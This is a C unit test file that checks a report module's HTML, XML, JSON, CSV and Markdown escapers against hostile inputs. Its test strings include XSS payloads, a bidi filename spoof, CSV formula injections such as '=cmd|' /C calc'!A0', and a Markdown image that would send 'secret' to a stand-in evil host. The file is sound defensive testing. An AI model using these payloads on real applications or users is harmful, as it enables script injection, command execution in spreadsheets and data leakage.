/*
 * test_rtext.c — the escapers of reports/rtext.c, one sink at a time, with
 * hostile input and exact expected output.
 */
#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "reports/rtext.h"

typedef void (*esc_fn)(FILE *, const char *, size_t, unsigned);

/* Runs one escaper over in[0..n) and compares with expected. */
static void expect(esc_fn fn, unsigned flags, const char *in, size_t n, const char *expected)
{
	char *out = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&out, &len);
	assert_non_null(f);
	fn(f, in, n, flags);
	assert_int_equal(fclose(f), 0);
	assert_string_equal(out, expected);
	assert_int_equal(len, strlen(expected));
	free(out);
}

static void html_text(FILE *f, const char *p, size_t n, unsigned flags) { rtext_html(f, p, n, flags); }
static void html_attr(FILE *f, const char *p, size_t n, unsigned flags) { (void)flags; rtext_html_attr(f, p, n); }
static void xml(FILE *f, const char *p, size_t n, unsigned flags) { rtext_xml(f, p, n, flags); }
static void json(FILE *f, const char *p, size_t n, unsigned flags) { (void)flags; rtext_json(f, p, n); }
static void csv(FILE *f, const char *p, size_t n, unsigned flags) { (void)flags; rtext_csv(f, p, n); }
static void md(FILE *f, const char *p, size_t n, unsigned flags) { (void)flags; rtext_md(f, p, n); }

#define S(lit) lit, sizeof(lit) - 1

#define ESC "<span class=\"esc\">"
#define END "</span>"

static void rtext__utf8__strict_decoding(void **state)
{
	(void)state;
	uint32_t cp = 0;
	assert_int_equal(rtext_utf8_decode((const unsigned char *)"\xE2\x80\xAE", 3, &cp), 3);
	assert_int_equal(cp, 0x202E);
	assert_int_equal(rtext_utf8_decode((const unsigned char *)"\xF0\x9F\x98\x80", 4, &cp), 4);
	assert_int_equal(cp, 0x1F600);
	assert_int_equal(rtext_utf8_decode((const unsigned char *)"\xC0\xAF", 2, &cp), 0);     /* overlong */
	assert_int_equal(rtext_utf8_decode((const unsigned char *)"\xE0\x80\xAF", 3, &cp), 0); /* overlong */
	assert_int_equal(rtext_utf8_decode((const unsigned char *)"\xED\xA0\x80", 3, &cp), 0); /* surrogate */
	assert_int_equal(rtext_utf8_decode((const unsigned char *)"\xF4\x90\x80\x80", 4, &cp), 0);
	assert_int_equal(rtext_utf8_decode((const unsigned char *)"\xE2\x80", 2, &cp), 0); /* truncated */
	assert_int_equal(rtext_utf8_decode((const unsigned char *)"\x80", 1, &cp), 0);
	assert_true(rtext_is_invisible(0x202E));
	assert_true(rtext_is_invisible(0x2066));
	assert_true(rtext_is_invisible(0x200B));
	assert_true(rtext_is_invisible(0xE0041));
	assert_true(rtext_is_invisible(0x9B));
	assert_false(rtext_is_invisible(0xE9));
	assert_false(rtext_is_invisible(0x1F600));
}

static void rtext__html__metacharacters_escaped(void **state)
{
	(void)state;
	expect(html_text, 0, S("<script>document.title='x'</script>"),
	       "&lt;script&gt;document.title=&#39;x&#39;&lt;/script&gt;");
	expect(html_text, 0, S("\"><img src=x onerror=alert(1)>"),
	       "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;");
	expect(html_text, 0, S("</style><style>body{background:url(https://evil/x)}"),
	       "&lt;/style&gt;&lt;style&gt;body{background:url(https://evil/x)}");
	expect(html_text, 0, S("a&amp;b &#x3C;"), "a&amp;amp;b &amp;#x3C;");
	expect(html_text, 0, S("javascript:alert(1)"), "javascript:alert(1)");
	expect(html_text, 0, S("caf\xC3\xA9 \xF0\x9F\x98\x80"), "caf\xC3\xA9 \xF0\x9F\x98\x80");
}

static void rtext__html__bidi_and_controls_visible(void **state)
{
	(void)state;
	expect(html_text, 0, S("evil\xE2\x80\xAEtxt.exe"), "evil" ESC "\\u202E" END "txt.exe");
	expect(html_text, 0, S("\xE2\x81\xA6x\xE2\x81\xA9"), ESC "\\u2066" END "x" ESC "\\u2069" END);
	expect(html_text, 0, S("a\0b\x01\x1b[31m"), "a" ESC "\\x00" END "b" ESC "\\x01" END ESC "\\x1B" END "[31m");
	expect(html_text, 0, S("l1\nl2\tt\r"), "l1" ESC "\\n" END "l2" ESC "\\t" END "t" ESC "\\r" END);
	expect(html_text, RTEXT_KEEP_NL, S("l1\nl2\tt\r"), "l1\nl2\tt" ESC "\\r" END);
	expect(html_text, 0, S("zw\xE2\x80\x8Bsp\xEF\xBB\xBF"), "zw" ESC "\\u200B" END "sp" ESC "\\uFEFF" END);
	expect(html_text, 0, S("tag\xF3\xA0\x81\x81"), "tag" ESC "\\u{E0041}" END);
	expect(html_text, 0, S("c1\xC2\x9B"), "c1" ESC "\\x9B" END);
}

static void rtext__html__invalid_utf8_per_byte(void **state)
{
	(void)state;
	expect(html_text, 0, S("bad\xff\xfe\xc0\xafok"),
	       "bad" ESC "\\xFF" END ESC "\\xFE" END ESC "\\xC0" END ESC "\\xAF" END "ok");
	expect(html_text, 0, S("\xE2\x80"), ESC "\\xE2" END ESC "\\x80" END);
	expect(html_text, 0, S("\xED\xA0\x80"), ESC "\\xED" END ESC "\\xA0" END ESC "\\x80" END);
}

static void rtext__html_attr__plain_visible_escapes(void **state)
{
	(void)state;
	expect(html_attr, 0, S("\" onmouseover=\"alert(1)"), "&quot; onmouseover=&quot;alert(1)");
	expect(html_attr, 0, S("x'y<z>&"), "x&#39;y&lt;z&gt;&amp;");
	expect(html_attr, 0, S("a\xE2\x80\xAE\n\xff"), "a\\u202E\\n\\xFF");
}

static void rtext__xml__text_and_attribute(void **state)
{
	(void)state;
	expect(xml, 0, S("<a b=\"c\" d='e'>&</a>"), "&lt;a b=&quot;c&quot; d=&apos;e&apos;&gt;&amp;&lt;/a&gt;");
	expect(xml, 0, S("]]><!-- -->"), "]]&gt;&lt;!-- --&gt;");
	expect(xml, RTEXT_KEEP_NL, S("l1\nl2\tx"), "l1\nl2\tx");
	expect(xml, RTEXT_ATTR | RTEXT_KEEP_NL, S("l1\nl2\tx"), "l1&#10;l2&#9;x");
	expect(xml, RTEXT_ATTR, S("l1\nl2"), "l1\\nl2");
	/* characters illegal in XML 1.0 never reach the output */
	expect(xml, 0, S("nul\0\x01\x1b\x7f\xEF\xBF\xBE\xEF\xBF\xBF"), "nul\\x00\\x01\\x1B\\x7F\\uFFFE\\uFFFF");
	expect(xml, 0, S("\xff\xc0\xaf"), "\\xFF\\xC0\\xAF");
	expect(xml, 0, S("\xE2\x80\xAE"), "\\u202E");
}

static void rtext__json__rfc8259(void **state)
{
	(void)state;
	expect(json, 0, S("a\"b\\c/"), "\"a\\\"b\\\\c/\"");
	expect(json, 0, S("l\n\t\r\b\f"), "\"l\\n\\t\\r\\b\\f\"");
	expect(json, 0, S("nul\0\x01\x1f"), "\"nul\\u0000\\u0001\\u001f\"");
	expect(json, 0, S("bad\xff"), "\"bad\\ufffd\"");
	expect(json, 0, S("ls\xE2\x80\xA8ps\xE2\x80\xA9"), "\"ls\\u2028ps\\u2029\"");
	expect(json, 0, S("</script>"), "\"</script>\"");
	expect(json, 0, "", 0, "\"\"");
}

static void rtext__csv__rfc4180_quoting(void **state)
{
	(void)state;
	expect(csv, 0, S("plain"), "plain");
	expect(csv, 0, S("a,b"), "\"a,b\"");
	expect(csv, 0, S("say \"hi\""), "\"say \"\"hi\"\"\"");
	expect(csv, 0, S("two\nlines"), "\"two\nlines\"");
	expect(csv, 0, S(" padded "), "\" padded \"");
	expect(csv, 0, "", 0, "");
}

static void rtext__csv__formula_injection_neutralised(void **state)
{
	(void)state;
	expect(csv, 0, S("=cmd|' /C calc'!A0"), "\"'=cmd|' /C calc'!A0\"");
	expect(csv, 0, S("+1+1"), "\"'+1+1\"");
	expect(csv, 0, S("-2+3"), "\"'-2+3\"");
	expect(csv, 0, S("@SUM(A1)"), "\"'@SUM(A1)\"");
	expect(csv, 0, S("\t=1"), "\"'\t=1\"");
	expect(csv, 0, S("=HYPERLINK(\"http://evil\",\"x\")"), "\"'=HYPERLINK(\"\"http://evil\"\",\"\"x\"\")\"");
	expect(csv, 0, S("\r=1"), "\\r=1"); /* CR is escaped first: no formula, no line break */
	expect(csv, 0, S("a=1"), "a=1");
	expect(csv, 0, S("nul\0\xff\xE2\x80\xAE"), "nul\\x00\\xFF\\u202E");
}

static void rtext__md__nothing_becomes_markup(void **state)
{
	(void)state;
	expect(md, 0, S("![x](https://evil/?q=secret)"), "\\!\\[x\\]\\(https\\:\\/\\/evil\\/\\?q\\=secret\\)");
	expect(md, 0, S("[click](javascript:alert(1))"), "\\[click\\]\\(javascript\\:alert\\(1\\)\\)");
	expect(md, 0, S("<img src=x onerror=alert(1)>"), "\\<img src\\=x onerror\\=alert\\(1\\)\\>");
	expect(md, 0, S("www.evil.com a@b.c"), "www\\.evil\\.com a\\@b\\.c");
	expect(md, 0, S("*b* _i_ `c` | # ~ &amp;"), "\\*b\\* \\_i\\_ \\`c\\` \\| \\# \\~ \\&amp\\;");
	expect(md, 0, S("l1\nl2"), "l1\\\\nl2");
	expect(md, 0, S("\xE2\x80\xAE\xff"), "\\\\u202E\\\\xFF");
	expect(md, 0, S("caf\xC3\xA9 42"), "caf\xC3\xA9 42");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(rtext__utf8__strict_decoding),
		cmocka_unit_test(rtext__html__metacharacters_escaped),
		cmocka_unit_test(rtext__html__bidi_and_controls_visible),
		cmocka_unit_test(rtext__html__invalid_utf8_per_byte),
		cmocka_unit_test(rtext__html_attr__plain_visible_escapes),
		cmocka_unit_test(rtext__xml__text_and_attribute),
		cmocka_unit_test(rtext__json__rfc8259),
		cmocka_unit_test(rtext__csv__rfc4180_quoting),
		cmocka_unit_test(rtext__csv__formula_injection_neutralised),
		cmocka_unit_test(rtext__md__nothing_becomes_markup),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
